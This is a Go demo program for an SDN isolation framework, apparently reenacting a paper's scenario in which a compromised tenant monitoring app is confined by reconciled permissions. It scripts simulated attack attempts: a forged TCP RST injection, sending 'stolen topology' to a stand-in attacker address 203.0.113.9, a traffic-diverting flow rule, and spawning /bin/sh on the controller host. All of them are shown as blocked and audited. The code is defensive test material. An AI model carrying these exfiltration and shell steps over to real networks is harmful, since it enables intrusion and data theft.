// Tenantmonitor reenacts §VII Scenario 1 end to end on the full stack: a
// multi-tenant network simulated by internal/netsim, an SDNShield-enabled
// controller, and the tenant's monitoring app — which carries a
// vulnerability granting the attacker arbitrary code execution. The
// reconciled permissions confine the compromise: usage reports still
// reach the administrator, while traffic injection, rule manipulation and
// exfiltration all fail.
package main

import (
	"fmt"
	"log"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
	"sdnshield/internal/reconcile"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// --- the tenant's network: two switches, two hosts ---
	built, err := netsim.Linear(2)
	if err != nil {
		return err
	}
	defer built.Net.Stop()
	kernel := controller.New(built.Topo, nil)
	defer kernel.Stop()
	for _, sw := range built.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			return err
		}
		if _, err := kernel.AcceptSwitch(ctrlSide); err != nil {
			return err
		}
	}
	shield := isolation.NewShield(kernel, isolation.Config{})
	defer shield.Stop()

	// The admin's collector and the attacker's drop box on the host net.
	adminIP := of.IPv4FromOctets(10, 1, 0, 9)
	collector := kernel.HostOS().RegisterEndpoint(adminIP, 443)
	attacker := kernel.HostOS().RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)

	// --- reconcile the app's shipped manifest with the local policy ---
	monitor := apps.NewMonitor("monitor", adminIP, 443)
	manifest, err := permlang.Parse(monitor.RequiredPermissions())
	if err != nil {
		return err
	}
	policy, err := policylang.Parse(`
LET LocalTopo = {SWITCH 1,2 LINK 1-2}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`)
	if err != nil {
		return err
	}
	result, err := reconcile.New().Reconcile("monitor", manifest, policy)
	if err != nil {
		return err
	}
	fmt.Println("== reconciliation ==")
	for _, v := range result.Violations {
		fmt.Println(" ", v)
	}
	fmt.Println("\n== deployed permissions ==")
	fmt.Println(result.Reconciled)

	shield.SetPermissions("monitor", result.Reconciled)
	if err := shield.Launch(monitor); err != nil {
		return err
	}

	// --- legitimate behaviour: a usage report reaches the admin ---
	fmt.Println("\n== legitimate monitoring ==")
	if err := monitor.Poll(); err != nil {
		return fmt.Errorf("poll: %w", err)
	}
	fmt.Printf("  usage reports delivered to admin: %d\n", len(collector.Received()))

	// --- the app is compromised: the attacker tries each attack class ---
	fmt.Println("\n== compromised app: attack attempts ==")
	api := monitorAPI(shield) // the attacker holds the app's API handle

	// Class 1: inject a forged packet.
	forged := of.NewTCPPacket(of.MAC{9}, of.MAC{8}, 1, 2, 3, 80, of.TCPFlagRST)
	reportAttack("inject TCP RST into the data plane",
		api.SendPacketOut(1, 0, of.PortNone, []of.Action{of.Flood()}, forged))

	// Class 2: exfiltrate the topology.
	err = func() error {
		conn, err := api.HostConnect(of.IPv4FromOctets(203, 0, 113, 9), 80)
		if err != nil {
			return err
		}
		conn.Send([]byte("stolen topology"))
		return nil
	}()
	reportAttack("exfiltrate topology to 203.0.113.9", err)

	// Class 3: manipulate forwarding rules.
	reportAttack("install a traffic-diverting rule",
		api.InsertFlow(1, controller.FlowSpec{
			Match:    of.NewMatch().Set(of.FieldIPDst, uint64(built.Hosts[1].IP())),
			Priority: 999,
			Actions:  []of.Action{of.Output(2)},
		}))

	// Class 4: tamper with another app's state via the host.
	reportAttack("spawn a shell on the controller host", api.HostExec("/bin/sh"))

	fmt.Printf("\nattacker's drop box received %d payload(s)\n", len(attacker.Received()))

	// --- the forensic log recorded every denied attempt ---
	audit.Default().Flush()
	fmt.Println("\n== audit journal (denials) ==")
	for _, ev := range audit.Default().Query(audit.Filter{App: "monitor", Kind: audit.KindPermission, Verdict: audit.VerdictDeny}) {
		fmt.Printf("  %s DENY app=%s token=%s %s\n", ev.Time.Format(time.RFC3339Nano), ev.App, ev.Token, ev.Detail)
	}
	return nil
}

// monitorAPI retrieves the app's mediated API handle the way a
// code-execution exploit inside the app would: it *is* the app.
func monitorAPI(shield *isolation.Shield) isolation.API {
	api, err := isolation.AttackerHandle(shield, "monitor")
	if err != nil {
		log.Fatal(err)
	}
	return api
}

func reportAttack(desc string, err error) {
	if err != nil {
		fmt.Printf("  BLOCKED %-45s %v\n", desc, err)
	} else {
		fmt.Printf("  SUCCESS %s\n", desc)
	}
}
